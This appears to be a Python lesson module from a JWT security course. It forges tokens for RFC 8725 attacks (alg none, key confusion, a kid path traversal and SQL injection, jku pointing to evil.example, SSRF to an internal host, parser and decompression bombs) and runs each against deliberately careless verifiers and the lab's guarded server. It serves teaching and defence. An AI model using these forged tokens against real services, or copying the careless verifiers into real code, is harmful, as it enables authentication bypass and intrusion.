"""Attacks of RFC 8725 and its neighbours: each on its careless verifier, then at the lab's door."""

from __future__ import annotations

import sqlite3
import tempfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import jwt
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from flask import Flask, jsonify

from jwtflow import insecure
from jwtflow.course.lessons.nb06_guard_the_resource.world import World, to_json
from jwtflow.course.lessons.nb11_attack_and_defend import careless, curve
from jwtflow.course.lessons.nb11_attack_and_defend.incidents import pac4j
from jwtflow.course.lessons.nb11_attack_and_defend.replays import outcome_of
from jwtflow.course.lessons.nb11_attack_and_defend.sound import check_rs256
from jwtflow.insecure.forger import forge, unsigned
from jwtflow.insecure.parts import encode
from jwtflow.lab import Lab, html
from jwtflow.lab.display import Shown, aligned
from jwtflow.lab.keys import lab_key

POINT = "resource_server.verify"
EVIL = "http://evil.example"
INSIDE = "http://heating.example"
SECRET = b"keep-it-secret"
LOGO = b"a picture that everybody can download"


@dataclass(frozen=True)
class Attack:
    """One token, and the careless verifier that it's for.

    Args:
        name: what is done.
        source: where it's described.
        token: what is sent.
        naive: runs the careless verifier; a text that it returns is told in place of "let in".
    """

    name: str
    source: str
    token: str
    naive: Callable[[], object]


class Props:
    """What the careless verifiers need: a folder of keys, a table of keys, two web servers."""

    def __init__(self, lab: Lab, folder: Path) -> None:
        self.world = World(attacker_url=EVIL, now=lab.clock.now())
        self.check = check_rs256(self.world.key.verification_key.to_jwk())
        self.visits: list[str] = []
        self.keys = folder / "keys"
        self.keys.mkdir()
        (folder / "logo.svg").write_bytes(LOGO)
        self.database = sqlite3.connect(":memory:")
        self.database.execute("CREATE TABLE keys (kid TEXT, secret TEXT)")
        self.database.execute("INSERT INTO keys VALUES ('2026', 'nobody knows this')")
        self._reader = lab.session("resource server")
        lab.site(EVIL, self._site(keys=[self.world.attacker_key.verification_key.to_jwk()]))
        lab.site(INSIDE, self._site(keys=[]))

    def _site(self, **answer: Any) -> Flask:
        app = Flask("site")

        @app.get("/<path:path>")
        def serve(path: str) -> Any:
            self.visits.append(path)
            return jsonify(answer)

        return app

    def fetch(self, url: str) -> Any:
        """Fetch what a token names, as a careless server does."""
        return self._reader.get(url).json()

    def pem(self) -> bytes:
        """The issuer's public key, as text."""
        public = jwt.PyJWK(self.world.key.verification_key.to_jwk()).key
        return bytes(public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))

    def after_visit(self, call: Callable[[], object]) -> str:
        """Tell whether a call, refused or not, sent somebody to the machine inside."""
        self.visits.clear()
        return f"{outcome_of(call)}, and {len(self.visits)} request to the machine inside"


def _forged(props: Props, secret: bytes, **header: Any) -> str:
    world = props.world
    return forge(world.header(alg="HS256", **header), world.claims(roles=["admin"]), secret=secret)


def attacks(props: Props) -> Iterator[Attack]:
    """Every attack of the table."""
    yield from _on_signatures(props)
    yield from _on_keys(props)
    yield from _on_claims(props)
    yield from _on_readers(props)


def _on_signatures(props: Props) -> Iterator[Attack]:
    world, check = props.world, props.check
    admin = world.claims(roles=["admin"])

    def attack(name: str, token: str, naive: Callable[[], object]) -> Attack:
        return Attack(name, "§2.1", token, naive)

    changed = insecure.replace_claims(world.token(), roles=["admin"])
    yield attack(
        "changed, and nobody looks", changed, lambda: insecure.decodes_without_verifying(changed)
    )
    none, mixed = unsigned(admin), unsigned(admin, alg="nOnE")
    yield attack("alg none", none, lambda: careless.accepts_alg_none(none, check_signature=check))
    yield attack(
        "alg nOnE", mixed, lambda: careless.refuses_bad_names(mixed, check_signature=check)
    )
    pem = props.pem()
    confused = _forged(props, pem)
    yield attack(
        "public key as a secret",
        confused,
        lambda: insecure.believes_header_alg(confused, public_key_text=pem, check_rs256=check),
    )
    zeros = world.token(header=world.header(alg="ES256"), claims=admin, sign=lambda _: bytes(64))
    public = curve.public_point(lab_key("ES256", "signing key"))
    signing_input = zeros.rpartition(".")[0].encode()
    yield Attack(
        "ES256 with r = s = 0",
        "§3.4",
        zeros,
        lambda: curve.nearly_checks_es256(signing_input, bytes(64), public),
    )
    yield _sealed(admin)


def _sealed(claims: dict[str, Any]) -> Attack:
    """An unsigned token in an envelope, which is only a stand-in for encryption here."""
    letter = encode(unsigned(claims).encode())
    header = encode(b'{"alg":"RSA-OAEP-256","enc":"A256GCM","cty":"JWT"}')
    token = f"{header}..{encode(b'iv')}.{letter}.{encode(b'tag')}"

    def opened(_letter: bytes) -> str:
        return unsigned(claims)

    return Attack(
        "encrypted, not signed",
        "§2.3",
        token,
        lambda: pac4j(token.encode(), opened, SECRET),
    )


def _on_keys(props: Props) -> Iterator[Attack]:
    world, attacker = props.world, props.world.attacker_key
    weak = _forged(props, SECRET)
    yield Attack(
        "a secret from the word list", "§2.2", weak, lambda: careless.knows(weak, secret=SECRET)
    )
    path = _forged(props, LOGO, kid="../logo.svg")
    yield Attack(
        "kid is a path",
        "§3.10",
        path,
        lambda: careless.opens_kid_as_path(path, folder=props.keys),
    )
    doubled = _forged(props, LOGO, kid="....//logo.svg")
    yield Attack(
        "kid is a path, filtered",
        "§3.10",
        doubled,
        lambda: careless.cleans_kid(doubled, folder=props.keys),
    )
    query = _forged(props, b"x", kid="' UNION SELECT 'x")
    yield Attack(
        "kid is a query",
        "§3.10",
        query,
        lambda: careless.looks_kid_up(query, database=props.database),
    )
    for name, value, kid in (
        ("jwk", attacker.verification_key.to_jwk(), world.key.kid),
        ("jku", f"{EVIL}/keys.json", attacker.kid),
    ):
        token = world.token(
            header=world.header(kid=kid, **{name: value}),
            claims=world.claims(roles=["admin"]),
            sign=attacker.sign,
        )
        naive = partial(careless.trusts_embedded_jwk, token, key_from_jwk=check_rs256)
        if name == "jku":
            naive = partial(
                insecure.fetches_jku, token, fetch=props.fetch, key_from_jwk=check_rs256
            )
        yield Attack(f"{name}: bring a key along", "§3.10", token, naive)
    inside = world.token(header=world.header(jku=f"{INSIDE}/off"), sign=attacker.sign)
    call = partial(insecure.fetches_jku, inside, fetch=props.fetch, key_from_jwk=check_rs256)
    yield Attack("jku: a machine inside", "§2.9", inside, lambda: props.after_visit(call))


def _on_claims(props: Props) -> Iterator[Attack]:
    world, check = props.world, props.check
    known: dict[str, Any] = {"check_signature": check, "issuer": world.issuer}
    other = world.token(claims=world.claims(aud="https://other.example"))
    yield Attack(
        "meant for another API",
        "§2.7",
        other,
        lambda: careless.ignores_audience(other, now=world.now, **known),
    )
    longer = world.token(claims=world.claims(aud=f"{world.audience}.evil.example"))
    yield Attack(
        "an audience that begins like ours",
        "§3.9",
        longer,
        lambda: insecure.matches_audience_in_part(
            longer, check_signature=check, audience=world.audience
        ),
    )
    id_token = world.token(header=world.header(typ="JWT"), claims=world.claims(nonce="n-1"))
    yield Attack(
        "an ID token as an access token",
        "§2.8",
        id_token,
        lambda: careless.accepts_any_typ(id_token, now=world.now, **known),
    )
    old = world.token(claims=world.claims(exp=int(world.now) - 3600))
    yield Attack(
        "an old token",
        "RFC 7519 §4.1.4",
        old,
        lambda: careless.ignores_expiry(old, audience=world.audience, **known),
    )
    critical = world.token(header=world.header(crit=["only-over-tls"], **{"only-over-tls": True}))
    yield Attack(
        "an extension that must be understood",
        "RFC 7515 §4.1.11",
        critical,
        lambda: careless.skips_crit(critical, check_signature=check),
    )


def _on_readers(props: Props) -> Iterator[Attack]:
    world, check = props.world, props.check
    honest = world.token()
    respelled = honest[:-1] + chr(ord(honest[-1]) + 1)  # two spare bits, which no byte needs
    yield Attack(
        "a second spelling of a revoked token",
        "8725bis §3.14",
        respelled,
        lambda: careless.denies_by_text(respelled, denied={honest}, check=check),
    )
    wide = world.token(claims=to_json(world.claims()).decode().encode("utf-16"))
    yield Attack("UTF-16", "§2.6", wide, lambda: careless.skips_crit(wide, check_signature=check))
    twice = to_json(world.claims()).replace(b'"sub":"alice"', b'"sub":"bob","sub":"admin"')
    two = world.token(claims=twice)
    yield Attack(
        "one name, two values",
        "RFC 7519 §4",
        two,
        lambda: (
            f"the gateway reads {careless.first_of_two(two)}, the API "
            f"{careless.skips_crit(two, check_signature=check)['sub']}"
        ),
    )
    deep, deeper = (world.token(claims=b'{"a":' + b"[" * depth) for depth in (30_000, 200_000))
    yield Attack(
        "a bomb: deep brackets",
        "RFC 8259 §9",
        deep,
        lambda: careless.skips_crit(deeper, check_signature=check),  # deep enough on any Python
    )
    packed = zlib.compress(bytes(5_000_000), wbits=-15)
    header = encode(b'{"alg":"RSA-OAEP-256","enc":"A256GCM","zip":"DEF"}')
    bomb = f"{header}..{encode(b'iv')}.{encode(packed)}.{encode(b'tag')}"
    yield Attack(
        "a bomb: compressed zeros",
        "8725bis §3.15",
        bomb,
        lambda: f"unpacks {careless.inflates(bomb):,} bytes",
    )


@dataclass(frozen=True, repr=False)
class Gallery(Shown):
    """The table: a row for each attack, and one for an honest token."""

    rows: tuple[tuple[str, ...], ...]
    columns: tuple[str, ...]

    def html(self) -> str:
        """All rows."""
        return html.table("Attacks", list(self.columns), [list(row) for row in self.rows])

    def text(self) -> str:
        """All rows, in columns."""
        return "\n".join(aligned([list(self.columns), *map(list, self.rows)]))


def play(lab: Lab, guards: dict[str, Any]) -> Gallery:
    """Send each token to its careless verifier, then to the lab's server behind each guard.

    Args:
        lab: its resource server gets the tokens, at ``/me``.
        guards: by name; ``None`` stands for the lab's own.
    """
    with tempfile.TemporaryDirectory() as folder:
        props = Props(lab, Path(folder))
        with closing(props.database):
            rows = [_row(lab, props, attack, guards) for attack in attacks(props)]
            rows.append(_row(lab, props, _honest(props), guards))
    return Gallery(
        tuple(rows), ("attack", "described in (§: RFC 8725)", "its careless verifier", *guards)
    )


def _honest(props: Props) -> Attack:
    token = props.world.token()
    return Attack(
        "none: a genuine token",
        "",
        token,
        lambda: careless.skips_crit(token, check_signature=props.check),
    )


def _row(lab: Lab, props: Props, attack: Attack, guards: dict[str, Any]) -> tuple[str, ...]:
    told: list[object] = []
    was = outcome_of(lambda: told.append(attack.naive()))
    naive = told[0] if told and isinstance(told[0], str) else was
    answers = [_at_the_door(lab, props, attack.token, *guard) for guard in guards.items()]
    return (attack.name, attack.source, str(naive), *answers)


def _at_the_door(lab: Lab, props: Props, token: str, whose: str, guard: Any) -> str:
    props.visits.clear()
    lab.mount(POINT, guard, whose=whose)
    bearer = {"Authorization": f"Bearer {token}"}
    status = lab.http.get(f"{lab.resource_server}/me", headers=bearer).status_code
    fetched = f", and fetched {props.visits[0]}" if props.visits else ""
    return f"{status}{fetched}"
